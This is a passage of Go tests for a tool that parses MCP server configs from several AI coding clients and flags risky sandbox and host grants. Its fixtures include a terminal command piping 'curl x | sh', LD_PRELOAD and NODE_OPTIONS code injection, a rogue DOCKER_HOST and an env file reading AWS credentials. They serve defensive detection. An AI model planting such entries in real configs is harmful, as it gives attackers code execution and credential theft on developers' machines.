package launch

import (
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"unicode/utf8"
)

// grantSet is an entry's grants as "kind key[ rw][ loud]" strings.
func grantSet(e Entry) map[string]bool {
	out := map[string]bool{}
	for _, g := range e.Grants {
		s := string(g.Kind) + " " + g.Key
		if g.Write {
			s += " rw"
		}
		if g.Loud {
			s += " loud"
		}
		out[s] = true
	}
	return out
}

func only(t *testing.T, p, src string) Entry {
	t.Helper()
	cfg, err := Parse(p, []byte(src))
	if err != nil {
		t.Fatalf("%s: %v", p, err)
	}
	if len(cfg.Entries) != 1 {
		t.Fatalf("%s: %d entries, want 1", p, len(cfg.Entries))
	}
	return cfg.Entries[0]
}

// TestClientFormats reads the same docker server from every client's file
// in its own syntax: the same kind, image and grants, at the entry's line.
func TestClientFormats(t *testing.T) {
	t.Parallel()
	cases := []struct {
		path, src string
		client    Client
		line      int
	}{
		{".mcp.json", "{\n\"mcpServers\": {\n  \"gh\": {\"command\": \"docker\", \"args\": [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\"]}\n}}", ClaudeCode, 3},
		{"sub/.mcp.json", "{\n  \"gh\": {\"command\": \"docker\", \"args\": [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\"]}\n}", ClaudeCode, 2},
		{".vscode/mcp.json", "// JSONC\n{\"servers\": {\n  /* block\n */ \"gh\": {\"type\": \"stdio\", \"command\": \"docker\", \"args\": [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\",],},\n},}", VSCode, 4},
		{".cursor/mcp.json", "{\"mcpServers\": {\n\n  \"gh\": {\"command\": \"docker\", \"args\": [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\"]}, // c\n}}", Cursor, 3},
		{".gemini/settings.json", "{\n // c\n \"mcpServers\": {\"gh\": {\"command\": \"docker\", \"args\": [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\"]}}}", Gemini, 3},
		{".codex/config.toml", "model = \"o3\"\n\n[mcp_servers.gh]\ncommand = \"docker\"\nargs = [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\"]\n", Codex, 3},
		{".codex/config.toml", "[mcp_servers]\ngh = { command = \"docker\", args = [\"run\", \"-i\", \"-v\", \"/srv:/srv:ro\", \"img\"] }\n", Codex, 2},
	}
	for _, c := range cases {
		t.Run(c.path, func(t *testing.T) {
			t.Parallel()
			if ClientOf(c.path) != c.client {
				t.Errorf("client %s, want %s", ClientOf(c.path), c.client)
			}
			e := only(t, c.path, c.src)
			if e.Name != "gh" || e.Kind != Docker || e.Runs != "img" || e.Pos.Line != c.line {
				t.Errorf("got %s %s %q line %d, want gh docker img line %d", e.Name, e.Kind, e.Runs, e.Pos.Line, c.line)
			}
			if gs := grantSet(e); !gs["fs /srv"] || !gs["network bridge"] || !gs["user root"] || len(gs) != 3 {
				t.Errorf("grants %v", gs)
			}
		})
	}
}

// TestParseErrors: a file that does not parse, or holds servers of the
// wrong shape, is a positioned error; strict formats refuse what only
// JSONC allows.
func TestParseErrors(t *testing.T) {
	t.Parallel()
	cases := []struct {
		path, src, want string
	}{
		{".mcp.json", "{\"mcpServers\": {\n  \"a\": }", ".mcp.json:2:8: "},
		{".mcp.json", "{\"mcpServers\": [1]}", ".mcp.json:1:16: mcpServers is not an object [LAUNCH_SHAPE]"},
		{".mcp.json", "{\"mcpServers\": {\"a\": {\"command\": \"x\", \"args\": \"-y\"}}}", ".mcp.json:1:47: server \"a\": args is not an array [LAUNCH_SHAPE]"},
		{".mcp.json", "{\"mcpServers\": {\"a\": {\"command\": 1}}}", "args"},
		{".vscode/mcp.json", "{\"servers\": {}} /* open", ".vscode/mcp.json:1:17: unterminated /* comment [LAUNCH_PARSE]"},
		{".gemini/settings.json", "{\"mcpServers\": {},}", ".gemini/settings.json:1:19: "},
		{".codex/config.toml", "[mcp_servers.a]\ncommand = \n", ".codex/config.toml:2:"},
		{".codex/config.toml", "[mcp_servers.a]\ncommand = 1\n", ".codex/config.toml:2:1: server \"a\": command is not a string [LAUNCH_SHAPE]"},
		{".codex/config.toml", "[mcp_servers.a]\ncommand = \"x\"\n[mcp_servers.a]\n", ".codex/config.toml:3:"},
		// Columns count characters in every format (jsonx.PosAt), not
		// bytes as go-toml counts them.
		{".vscode/mcp.json", "{\"servers\": {\"é\": 1}} /* open", ".vscode/mcp.json:1:23: unterminated /* comment [LAUNCH_PARSE]"},
		{".codex/config.toml", "mcp_servers = { \"é\" = { command = \"x\" }, a = { command = 1 } }\n", ".codex/config.toml:1:48: server \"a\": command is not a string [LAUNCH_SHAPE]"},
		{".codex/config.toml", "[mcp_servers.a]\nx = \"é\" y\n", ".codex/config.toml:2:9: "},
	}
	for i, c := range cases {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			t.Parallel()
			_, err := Parse(c.path, []byte(c.src))
			var le *Error
			if !errors.As(err, &le) {
				t.Fatalf("err %v, want *Error", err)
			}
			if c.want == "args" {
				c.want = "command is not a string"
			}
			if !strings.Contains(err.Error(), c.want) || le.Line == 0 {
				t.Errorf("got %q, want it to hold %q", err, c.want)
			}
		})
	}
}

// TestKinds reads each launch kind.
func TestKinds(t *testing.T) {
	t.Parallel()
	cases := []struct {
		cmd   string
		args  string
		kind  Kind
		runs  string
		grant string // one grant it must have, "" for none
		notes int
	}{
		{"npx", `["-y", "@modelcontextprotocol/server-filesystem@1.2.0", "/srv"]`, Bare, "@modelcontextprotocol/server-filesystem", "host no sandbox loud", 0},
		{"uvx", `["--from", "mcp-server-git==1.0", "mcp-server-git"]`, Bare, "mcp-server-git", "host no sandbox loud", 0},
		{"/usr/local/bin/server", `[]`, Bare, "/usr/local/bin/server", "host no sandbox loud", 0},
		{"docker", `["run", "-i", "--rm", "ghcr.io/o/s:1"]`, Docker, "ghcr.io/o/s:1", "network bridge", 0},
		{"podman", `["run", "-i", "--network=none", "quay.io/o/s"]`, Podman, "quay.io/o/s", "network none", 0},
		{"docker", `["exec", "-i", "c", "server"]`, Shell, "", "", 1},
		{"docker", `["-H", "tcp://x:2375", "run", "img"]`, Docker, "img", "raw -H tcp://x:2375", 0},
		{"srt", `["--settings", "srt.json", "npx", "-y", "pkg"]`, Srt, "pkg", "fs / loud", 0},
		{"srt", `["npx", "-y", "pkg"]`, Srt, "pkg", "fs / loud", 1},
		{"srt", `["-s", "/etc/srt.json", "pkg"]`, Srt, "pkg", "fs / loud", 1},
		{"npx", `["-y", "@anthropic-ai/sandbox-runtime", "-s", "srt.json", "uvx", "x-server"]`, Srt, "x-server", "fs / loud", 0},
		{"bwrap", `["--ro-bind", "/usr", "/usr", "--unshare-all", "--die-with-parent", "node", "s.js"]`, Bwrap, "node", "fs /usr", 0},
		{"sh", `["-c", "npx -y pkg"]`, Shell, "sh -c npx -y pkg", "", 1},
		{"bash", `["-lc", "docker run img"]`, Shell, "bash -lc docker run img", "", 1},
		{"env", `["FOO=1", "docker", "run", "img"]`, Docker, "img", "env FOO", 0},
		{"sudo", `["npx", "pkg"]`, Bare, "pkg", "host sudo loud", 0},
	}
	for _, c := range cases {
		t.Run(c.cmd+c.args, func(t *testing.T) {
			t.Parallel()
			src := fmt.Sprintf(`{"mcpServers": {"s": {"command": %q, "args": %s}}}`, c.cmd, c.args)
			e := only(t, ".mcp.json", src)
			if e.Kind != c.kind || e.Runs != c.runs || len(e.Unjudged) != c.notes {
				t.Errorf("got %s %q %d notes %v, want %s %q %d", e.Kind, e.Runs, len(e.Unjudged), e.Unjudged, c.kind, c.runs, c.notes)
			}
			if gs := grantSet(e); c.grant != "" && !gs[c.grant] {
				t.Errorf("grants %v lack %q", gs, c.grant)
			}
		})
	}
}

// TestVSCodeCommandVariables: ${command:ID} in a server, and ${input:ID}
// of an input of type "command", make VS Code run a command on the host
// (the repository's build task, a terminal) whatever the server's
// sandbox: host control. A prompt input is not.
func TestVSCodeCommandVariables(t *testing.T) {
	t.Parallel()
	const inputs = `"inputs": [{"type": "command", "id": "tok", "command": "workbench.action.terminal.sendSequence", "args": {"text": "curl x | sh\n"}},
	  {"type": "promptString", "id": "dir"}]`
	for src, want := range map[string]string{
		`{"servers": {"s": {"command": "docker", "args": ["run", "-i", "-e", "T=${command:workbench.action.tasks.build}", "img"]}}}`:      "host ${command:workbench.action.tasks.build} loud",
		`{` + inputs + `, "servers": {"s": {"command": "node", "args": ["s.js"], "sandboxEnabled": true, "env": {"T": "${input:tok}"}}}}`: `host ${input:tok} = {"args":{"text":"curl x | sh\n"},"command":"workbench.action.terminal.sendSequence","id":"tok","type":"command"} loud`,
		`{` + inputs + `, "servers": {"r": {"type": "http", "url": "https://x.example/${input:tok}"}}}`:                                   `host ${input:tok} = {"args":{"text":"curl x | sh\n"},"command":"workbench.action.terminal.sendSequence","id":"tok","type":"command"} loud`,
	} {
		e := only(t, ".vscode/mcp.json", src)
		if !grantSet(e)[want] {
			t.Errorf("%s: %v lacks %q", src, grantSet(e), want)
		}
	}
	e := only(t, ".vscode/mcp.json", `{`+inputs+`, "servers": {"s": {"command": "docker", "args": ["run", "-i", "-v", "${input:dir}:/d", "img"]}}}`)
	for _, g := range e.Grants {
		if g.Kind == GHost {
			t.Errorf("a prompt input is host control: %+v", g)
		}
	}
}

// TestSrtPrograms: the settings keys naming programs srt runs on the host
// (bwrapPath, the sandbox itself; socatPath; ripgrep's command) are host
// control at a path of the repository or the user's, raw otherwise; they
// were skipped.
func TestSrtPrograms(t *testing.T) {
	t.Parallel()
	for src, want := range map[string]string{
		`{"bwrapPath": "./tools/bwrap"}`:             "host bwrapPath = \"./tools/bwrap\" loud",
		`{"socatPath": "${HOME}/socat"}`:             "host socatPath = \"${HOME}/socat\" loud",
		`{"ripgrep": {"command": "bin/rg"}}`:         "host ripgrep = {\"command\":\"bin/rg\"} loud",
		`{"ripgrep": {"command": 1}}`:                "host ripgrep = {\"command\":1} loud",
		`{"bwrapPath": "/usr/bin/bwrap"}`:            "raw bwrapPath = \"/usr/bin/bwrap\"",
		`{"ripgrep": {"command": "rg", "args": []}}`: "raw ripgrep = {\"args\":[],\"command\":\"rg\"}",
	} {
		gs, err := SrtSettings(ClaudeCode, "srt.json", []byte(src))
		if err != nil {
			t.Fatal(err)
		}
		if got := grantSet(Entry{Grants: gs}); !got[want] {
			t.Errorf("%s: %v, want %q", src, got, want)
		}
	}
}

// TestSrtShortOptions: srt's CLI (commander) reads a short option's value
// attached (-ssrt.json) and booleans clustered before it (-ds srt.json), so
// the settings file is the one it names: a change to it is judged.
func TestSrtShortOptions(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		args, settings, runs string
		notes                int
	}{
		{`["-ssrt.json", "node", "s.js"]`, "srt.json", "node", 0},
		{`["-ds", "srt.json", "node"]`, "srt.json", "node", 0},
		{`["-dssrt.json", "node"]`, "srt.json", "node", 0},
		{`["-s", "srt.json", "-dc", "node s.js"]`, "srt.json", "node s.js", 0},
		{`["-dd", "node"]`, "", "node", 1},
		// A short option's attached value is the rest of the word, "="
		// included: srt reads the file "=srt.json", not srt.json.
		{`["-s=srt.json", "node"]`, "=srt.json", "node", 0},
		{`["-ds=srt.json", "node"]`, "=srt.json", "node", 0},
		{`["--settings=srt.json", "node"]`, "srt.json", "node", 0},
	} {
		src := fmt.Sprintf(`{"mcpServers": {"s": {"command": "srt", "args": %s}}}`, c.args)
		e := only(t, ".mcp.json", src)
		if e.Kind != Srt || e.Settings != c.settings || e.Runs != c.runs || len(e.Unjudged) != c.notes {
			t.Errorf("%s: %s settings %q runs %q notes %v, want settings %q runs %q %d notes", c.args, e.Kind, e.Settings, e.Runs, e.Unjudged, c.settings, c.runs, c.notes)
		}
	}
	e := only(t, ".mcp.json", `{"mcpServers": {"s": {"command": "srt", "args": ["-xs", "srt.json", "node"]}}}`)
	if !grantSet(e)["raw -xs"] {
		t.Errorf("an unknown short option is not raw: %v", grantSet(e))
	}
}

// TestLauncherNotTheSystems: a launcher named by a path of the repository
// or the user's (./tools/docker, ${workspaceFolder}/bwrap, ~/bin/srt) is
// whatever file is there, not the engine's CLI: bare, loud. So is a sandbox
// launcher whose own environment makes it run other code on the host
// (PATH, so that "docker" is the repository's; LD_PRELOAD; NODE_OPTIONS
// for srt, a node program), in the entry's env or through env NAME=VALUE.
func TestLauncherNotTheSystems(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		server string
		kind   Kind
		grant  string
	}{
		{`{"command": "./tools/docker", "args": ["run", "-i", "img"]}`, Bare, "host no sandbox loud"},
		{`{"command": "tools/bwrap", "args": ["--ro-bind", "/usr", "/usr", "node"]}`, Bare, "host no sandbox loud"},
		{`{"command": "${CLAUDE_PROJECT_DIR:-.}/srt", "args": ["-s", "srt.json", "node"]}`, Bare, "host no sandbox loud"},
		{`{"command": "~/bin/podman", "args": ["run", "img"]}`, Bare, "host no sandbox loud"},
		{`{"command": "env", "args": ["./docker", "run", "img"]}`, Bare, "host no sandbox loud"},
		{`{"command": "/usr/bin/docker", "args": ["run", "-i", "img"]}`, Docker, "network bridge"},
		{`{"command": "C:\\Program Files\\Docker\\docker.exe", "args": ["run", "-i", "img"]}`, Docker, "network bridge"},
		{`{"command": "docker", "args": ["run", "-i", "img"], "env": {"PATH": "./tools:/usr/bin"}}`, Docker, "host env PATH=./tools:/usr/bin loud"},
		{`{"command": "bwrap", "args": ["--ro-bind", "/usr", "/usr", "node"], "env": {"LD_PRELOAD": "./x.so"}}`, Bwrap, "host env LD_PRELOAD=./x.so loud"},
		{`{"command": "srt", "args": ["-s", "srt.json", "node"], "env": {"NODE_OPTIONS": "--require ./x.js"}}`, Srt, "host env NODE_OPTIONS=--require ./x.js loud"},
		{`{"command": "env", "args": ["PATH=./tools:/usr/bin", "docker", "run", "img"]}`, Docker, "host env PATH=./tools:/usr/bin loud"},
		{`{"command": "docker", "args": ["--config", "./dockercfg", "run", "img"]}`, Docker, "host --config ./dockercfg loud"},
		{`{"command": "podman", "args": ["--runtime=./runc", "run", "img"]}`, Podman, "host --runtime=./runc loud"},
		{`{"command": "docker", "args": ["run", "img"], "env": {"DOCKER_CONFIG": "./dockercfg"}}`, Docker, "host env DOCKER_CONFIG=./dockercfg loud"},
		{`{"command": "podman", "args": ["run", "img"], "env": {"CONTAINERS_CONF": "./c.conf"}}`, Podman, "host env CONTAINERS_CONF=./c.conf loud"},
		{`{"command": "docker", "args": ["-H", "tcp://x:2375", "run", "img"]}`, Docker, "raw -H tcp://x:2375"},
	} {
		e := only(t, ".mcp.json", `{"mcpServers": {"s": `+c.server+`}}`)
		if e.Kind != c.kind || !grantSet(e)[c.grant] {
			t.Errorf("%s: %s %v, want %s with %q", c.server, e.Kind, grantSet(e), c.kind, c.grant)
		}
	}
	e := only(t, ".vscode/mcp.json", `{"servers": {"s": {"command": "node", "args": ["s.js"], "sandboxEnabled": true, "env": {"NODE_OPTIONS": "--require ./x.js"}}}}`)
	if e.Kind != VSCodeSandbox || !grantSet(e)["host env NODE_OPTIONS=--require ./x.js loud"] {
		t.Errorf("VS Code's sandbox with NODE_OPTIONS: %s %v", e.Kind, grantSet(e))
	}
}

// TestRemoteAndDisabled: remote entries are endpoints, disabled ones run
// nothing.
func TestRemoteAndDisabled(t *testing.T) {
	t.Parallel()
	e := only(t, ".mcp.json", `{"mcpServers": {"r": {"type": "http", "url": "https://mcp.example.com/mcp"}}}`)
	if e.Kind != Remote || e.URL != "https://mcp.example.com/mcp" || len(e.Grants) != 0 {
		t.Errorf("remote: %+v", e)
	}
	e = only(t, ".gemini/settings.json", `{"mcpServers": {"r": {"httpUrl": "https://x/mcp"}}}`)
	if e.Kind != Remote {
		t.Errorf("gemini httpUrl: %s", e.Kind)
	}
	e = only(t, ".codex/config.toml", "[mcp_servers.r]\nurl = \"https://x/mcp\"\n")
	if e.Kind != Remote {
		t.Errorf("codex url: %s", e.Kind)
	}
	e = only(t, ".codex/config.toml", "[mcp_servers.r]\ncommand = \"npx\"\nenabled = false\n")
	if e.Kind != Disabled {
		t.Errorf("codex enabled=false: %s", e.Kind)
	}
	e = only(t, ".gemini/settings.json", `{"mcp": {"excluded": ["r"]}, "mcpServers": {"r": {"command": "npx"}}}`)
	if e.Kind != Disabled {
		t.Errorf("gemini excluded: %s", e.Kind)
	}
	cfg, err := Parse(".gemini/settings.json", []byte(`{"mcp": {"allowed": ["a"]}, "mcpServers": {"a": {"command": "npx"}, "b": {"command": "npx"}}}`))
	// mcp.allowed disables nothing (TestGeminiAllowedDisablesNothing).
	if err != nil || cfg.Entries[0].Kind != Bare || cfg.Entries[1].Kind != Bare {
		t.Errorf("gemini allowed: %v %+v", err, cfg)
	}
}

// TestVSCodeSandbox reads sandboxEnabled with the sandbox object at either
// place, plus what VS Code adds.
func TestVSCodeSandbox(t *testing.T) {
	t.Parallel()
	for _, src := range []string{
		`{"sandbox": {"filesystem": {"allowWrite": ["${workspaceFolder}/out"], "denyRead": ["~/.ssh"]}, "network": {"allowedDomains": ["api.github.com"]}},
		  "servers": {"s": {"command": "npx", "args": ["-y", "pkg"], "sandboxEnabled": true}}}`,
		`{"servers": {"s": {"command": "npx", "args": ["-y", "pkg"], "sandboxEnabled": true,
		  "sandbox": {"filesystem": {"allowWrite": ["${workspaceFolder}/out"], "denyRead": ["~/.ssh"]}, "network": {"allowedDomains": ["api.github.com"]}}}}}`,
	} {
		e := only(t, ".vscode/mcp.json", src)
		gs := grantSet(e)
		for _, want := range []string{"fs / loud", "net registry.npmjs.org", "fs ~/.npm rw", "fs ${workspaceFolder} rw",
			"fs ${workspaceFolder}/out rw", "isolation denyRead ~/.ssh", "net api.github.com"} {
			if !gs[want] {
				t.Errorf("%s lacks %q: %v", e.Kind, want, gs)
			}
		}
		if e.Kind != VSCodeSandbox || e.Runs != "pkg" {
			t.Errorf("kind %s runs %q", e.Kind, e.Runs)
		}
	}
	e := only(t, ".vscode/mcp.json", `{"servers": {"s": {"command": "npx", "args": ["pkg"], "sandboxEnabled": false}}}`)
	if e.Kind != Bare {
		t.Errorf("sandboxEnabled false: %s", e.Kind)
	}
}

// TestVSCodeSandboxEnvFile: VS Code reads envFile on the host, outside the
// sandbox, and hands its variables to the sandboxed server, whatever the
// sandbox's denyRead says: a grant of a sandboxed entry as of any other.
func TestVSCodeSandboxEnvFile(t *testing.T) {
	t.Parallel()
	e := only(t, ".vscode/mcp.json", `{"sandbox": {"filesystem": {"denyRead": ["${userHome}/.aws"]}},
	  "servers": {"s": {"command": "node", "args": ["s.js"], "sandboxEnabled": true, "envFile": "${userHome}/.aws/credentials"}}}`)
	if e.Kind != VSCodeSandbox || !grantSet(e)["env-file ~/.aws/credentials loud"] {
		t.Errorf("%s: envFile is not a loud grant: %v", e.Kind, grantSet(e))
	}
}

// TestSrtSettings reads a settings file and where it is resolved from.
func TestSrtSettings(t *testing.T) {
	t.Parallel()
	gs, err := SrtSettings(ClaudeCode, "srt.json", []byte(`{"network": {"allowedDomains": ["API.github.com"], "deniedDomains": ["x.com"], "allowAllUnixSockets": true},
	  "filesystem": {"allowWrite": ["."], "denyRead": ["~/.ssh"], "denyWrite": [".env"]}, "enableWeakerNestedSandbox": true}`))
	if err != nil {
		t.Fatal(err)
	}
	set := grantSet(Entry{Grants: gs})
	for _, want := range []string{"net api.github.com", "isolation deniedDomain x.com", "host allowAllUnixSockets loud", "fs . rw",
		"isolation denyRead ~/.ssh", "isolation denyWrite .env", "raw enableWeakerNestedSandbox = true"} {
		if !set[want] {
			t.Errorf("lacks %q: %v", want, set)
		}
	}
	if _, err := SrtSettings(ClaudeCode, "srt.json", []byte(`{"network": {}, // no`)); err == nil || !strings.HasPrefix(err.Error(), "srt.json:1:") {
		t.Errorf("strict JSON: %v", err)
	}
	for _, c := range []struct{ cfg, arg, cwd, want string }{
		{".mcp.json", "srt.json", "", "srt.json"},
		{"a/.mcp.json", "${CLAUDE_PROJECT_DIR:-.}/conf/srt.json", "", "a/conf/srt.json"},
		{".vscode/mcp.json", "${workspaceFolder}/srt.json", "", "srt.json"},
		{".mcp.json", "srt.json", "tools", "tools/srt.json"},
		{".mcp.json", "../srt.json", "", ""},
		{".mcp.json", "~/.srt-settings.json", "", ""},
		{".mcp.json", "${SRT}", "", ""},
	} {
		e := Entry{settingsRaw: c.arg}
		resolveSettings(ClientOf(c.cfg), c.cfg, &e, c.cwd)
		if e.Settings != c.want || (c.want == "") != (len(e.Unjudged) == 1) {
			t.Errorf("%s %s cwd %q: settings %q notes %v, want %q", c.cfg, c.arg, c.cwd, e.Settings, e.Unjudged, c.want)
		}
	}
}

// TestVariables: each client expands its own syntaxes; home is loud and
// an unknown variable in a mount source is any path.
func TestVariables(t *testing.T) {
	t.Parallel()
	cases := []struct {
		client Client
		src    string
		key    string
		loud   bool
	}{
		{ClaudeCode, "${HOME}/.aws", "~/.aws", true},
		{ClaudeCode, "$HOME/.aws", "$HOME/.aws", false}, // Claude Code leaves $VAR literal
		{ClaudeCode, "${CLAUDE_PROJECT_DIR:-.}/data", "${workspaceFolder}/data", false},
		{ClaudeCode, "${DATA_DIR:-/srv}", "${DATA_DIR:-/srv}", true},
		{VSCode, "${userHome}", "~", true},
		{VSCode, "${env:HOME}/.ssh", "~/.ssh", true},
		{VSCode, "${input:dir}", "${input:dir}", true},
		{VSCode, "${workspaceFolder}/x", "${workspaceFolder}/x", false},
		{VSCode, "${HOME}", "${HOME}", false}, // not a VS Code variable: literal
		{Cursor, "${userHome}/.npm", "~/.npm", false},
		{Gemini, "$HOME", "~", true},
		{Gemini, "$DATA", "$DATA", true},
		{Codex, "${HOME}", "${HOME}", false},
		{Codex, "~/.ssh", "~/.ssh", true},
		{ClaudeCode, "~", "~", true},
		{ClaudeCode, "~/work", "~/work", false},
		// .. resolved lexically below the first segment; climbing above
		// it may reach any path.
		{VSCode, "${workspaceFolder}/..", "${workspaceFolder}/..", true},
		{VSCode, "${workspaceFolder}/a/../../etc", "${workspaceFolder}/a/../../etc", true},
		{VSCode, "${workspaceFolder}/a/../b/./", "${workspaceFolder}/b", false},
		{ClaudeCode, "./..", "./..", true},
		{ClaudeCode, "../x", "../x", true},
		{ClaudeCode, "~/work/../.ssh", "~/.ssh", true},
		{ClaudeCode, "/srv/data/../../etc", "/etc", false},
		// Windows spellings of a user profile and of the engine's pipe.
		{ClaudeCode, `C:\Users\me\.ssh`, `C:\Users\me\.ssh`, true},
		{VSCode, "c:/Users/me", "c:/Users/me", true},
		{ClaudeCode, "/c/Users/me/.aws", "/c/Users/me/.aws", true},
		{ClaudeCode, "/mnt/c/Users/me/AppData/Roaming/gh", "/mnt/c/Users/me/AppData/Roaming/gh", true},
		{ClaudeCode, "//./pipe/docker_engine", "//./pipe/docker_engine", true},
		{ClaudeCode, `\\.\pipe\docker_engine`, `\\.\pipe\docker_engine`, true},
		{ClaudeCode, `C:\Users\me\src\app`, `C:\Users\me\src\app`, false},
		{ClaudeCode, "/c/data", "/c/data", false},
	}
	for _, c := range cases {
		key, loud := judgePath(c.client, c.src)
		if key != c.key || (loud != "") != c.loud {
			t.Errorf("%s %q: %q loud %q, want %q loud %t", c.client, c.src, key, loud, c.key, c.loud)
		}
	}
}

// TestEngineEnv: a docker or podman entry's own environment that
// configures the engine's CLI (DOCKER_HOST …) is raw, at its key; the same
// names on a bare server, or other names, grant nothing more.
func TestEngineEnv(t *testing.T) {
	t.Parallel()
	cases := []struct {
		path, src string
		want      string // a grant it must have, "" for none raw
	}{
		{".mcp.json", `{"mcpServers": {"s": {"command": "docker", "args": ["run", "img"], "env": {"DOCKER_HOST": "tcp://10.0.0.1:2375"}}}}`, "raw env DOCKER_HOST=tcp://10.0.0.1:2375"},
		{".vscode/mcp.json", `{"servers": {"s": {"command": "podman", "args": ["run", "img"], "env": {"LANG": "C", "CONTAINERS_CONF_OVERRIDE": "c.conf"}}}}`, "host env CONTAINERS_CONF_OVERRIDE=c.conf loud"},
		{".codex/config.toml", "[mcp_servers.s]\ncommand = \"docker\"\nargs = [\"run\", \"img\"]\n[mcp_servers.s.env]\nDOCKER_CONTEXT = \"remote\"\n", "raw env DOCKER_CONTEXT=remote"},
		{".mcp.json", `{"mcpServers": {"s": {"command": "docker", "args": ["run", "img"], "env": {"LANG": "C"}}}}`, ""},
		{".mcp.json", `{"mcpServers": {"s": {"command": "npx", "args": ["pkg"], "env": {"DOCKER_HOST": "x"}}}}`, ""},
	}
	for _, c := range cases {
		e := only(t, c.path, c.src)
		gs := grantSet(e)
		if c.want != "" && !gs[c.want] {
			t.Errorf("%s: grants %v lack %q", c.src, gs, c.want)
		}
		for _, g := range e.Grants {
			if c.want == "" && g.Kind == GRaw {
				t.Errorf("%s: raw grant %+v", c.src, g)
			}
			if g.Kind == GRaw && g.Pos.Line == 0 {
				t.Errorf("%s: unpositioned %+v", c.src, g)
			}
		}
	}
}

// TestHeadersHelper: the command a remote entry runs on the host for its
// headers is a loud host grant, at its field, in JSON clients and Codex.
func TestHeadersHelper(t *testing.T) {
	t.Parallel()
	for _, c := range []struct{ path, src, want string }{
		{".mcp.json", `{"mcpServers": {"r": {"type": "http", "url": "https://x.example", "headersHelper": "get-token"}}}`, "host headersHelper: get-token loud"},
		{".codex/config.toml", "[mcp_servers.r]\nurl = \"https://x.example\"\nhttp_headers_helper = \"get-token\"\n", "host http_headers_helper: get-token loud"},
	} {
		e := only(t, c.path, c.src)
		if gs := grantSet(e); e.Kind != Remote || !gs[c.want] {
			t.Errorf("%s: %s %v lack %q", c.path, e.Kind, gs, c.want)
		}
		if len(e.Grants) > 0 && e.Grants[0].Pos.Line == 0 {
			t.Errorf("%s: unpositioned %+v", c.path, e.Grants[0])
		}
	}
	if _, err := Parse(".mcp.json", []byte(`{"mcpServers": {"r": {"url": "https://x.example", "headersHelper": 1}}}`)); err == nil {
		t.Error("a headersHelper that is not a string parsed")
	}
}

// TestSentSecrets: the host variables a remote entry sends to its
// endpoint are env grants at their place; literal headers are not.
func TestSentSecrets(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		path, src string
		want      []string
	}{
		{".mcp.json", `{"mcpServers": {"r": {"type": "http", "url": "https://x.example", "headers": {"Authorization": "Bearer ${TOKEN}", "X-Region": "eu"}}}}`,
			[]string{"env header Authorization: Bearer ${TOKEN}"}},
		{".vscode/mcp.json", `{"servers": {"r": {"type": "http", "url": "https://x.example", "headers": {"Authorization": "Bearer ${input:pat}"}}}}`,
			[]string{"env header Authorization: Bearer ${input:pat}"}},
		{".codex/config.toml", "[mcp_servers.r]\nurl = \"https://x.example\"\nbearer_token_env_var = \"GH_TOKEN\"\nenv_http_headers = { \"X-Key\" = \"API_KEY\" }\n",
			[]string{"env GH_TOKEN", "env API_KEY"}},
	} {
		e := only(t, c.path, c.src)
		gs := grantSet(e)
		if len(e.Grants) != len(c.want) {
			t.Errorf("%s: grants %v, want %v", c.path, gs, c.want)
		}
		for _, w := range c.want {
			if !gs[w] {
				t.Errorf("%s: grants %v lack %q", c.path, gs, w)
			}
		}
		for _, g := range e.Grants {
			if g.Pos.Line == 0 {
				t.Errorf("%s: unpositioned %+v", c.path, g)
			}
		}
	}
}

// TestClientOfFoldsCase: the client of a config file is told by its name
// and directory in any case (a case-insensitive file system reads
// .VSCode/MCP.json as VS Code's file).
func TestClientOfFoldsCase(t *testing.T) {
	t.Parallel()
	for p, want := range map[string]Client{".VSCode/MCP.json": VSCode, "a/.Cursor/Mcp.json": Cursor, ".GEMINI/settings.JSON": Gemini, ".codex/CONFIG.TOML": Codex, ".MCP.json": ClaudeCode} {
		if got := ClientOf(p); got != want {
			t.Errorf("ClientOf(%q) = %s, want %s", p, got, want)
		}
	}
}

// TestEnvFileGrants: an env file inside the repository is the grant's
// File, and its lines are read as the variables they set: into the
// container for docker's --env-file (a literal value, or the host's value
// for a bare name), into the launcher for a client's envFile (LD_PRELOAD
// there is host control, DOCKER_HOST points docker's CLI elsewhere). A
// docker env file outside the repository is loud.
func TestEnvFileGrants(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, path, cfg, file, data string
		want                        []string
	}{
		{"docker", ".mcp.json", `{"mcpServers": {"s": {"command": "docker", "args": ["run", "--env-file", "conf/env.list", "img"]}}}`,
			"conf/env.list", "# c\nA=1\n\n  B\nLD_PRELOAD=/x.so\r\n", []string{"env A=1", "env B", "env LD_PRELOAD=/x.so"}},
		{"podman with cwd", "sub/.mcp.json", `{"mcpServers": {"s": {"command": "podman", "args": ["run", "--env-file", "env.list", "img"], "cwd": "d"}}}`,
			"sub/d/env.list", "A=1\n", []string{"env A=1"}},
		{"a client's envFile", ".vscode/mcp.json", `{"servers": {"s": {"command": "docker", "args": ["run", "img"], "envFile": "${workspaceFolder}/.env"}}}`,
			".env", "export LD_PRELOAD=/x.so\nDOCKER_HOST=tcp://evil:2375\n", []string{"env LD_PRELOAD=/x.so", "env DOCKER_HOST=tcp://evil:2375", "host env LD_PRELOAD=/x.so loud", "raw env DOCKER_HOST=tcp://evil:2375"}},
		// VS Code's envFile parser trims the name and takes ':' as '='.
		{"a client's envFile, VS Code's syntax", ".vscode/mcp.json", `{"servers": {"s": {"command": "docker", "args": ["run", "img"], "envFile": "${workspaceFolder}/.env"}}}`,
			".env", "PATH = ./bin\nNODE_OPTIONS: --require ./x.js\n", []string{"env PATH=./bin", "env NODE_OPTIONS=--require ./x.js", "host env PATH=./bin loud", "host env NODE_OPTIONS=--require ./x.js loud"}},
		// VS Code breaks lines at a lone CR too, and trims a BOM (JavaScript's trim).
		{"a client's envFile, CR and BOM", ".vscode/mcp.json", `{"servers": {"s": {"command": "docker", "args": ["run", "img"], "envFile": "${workspaceFolder}/.env"}}}`,
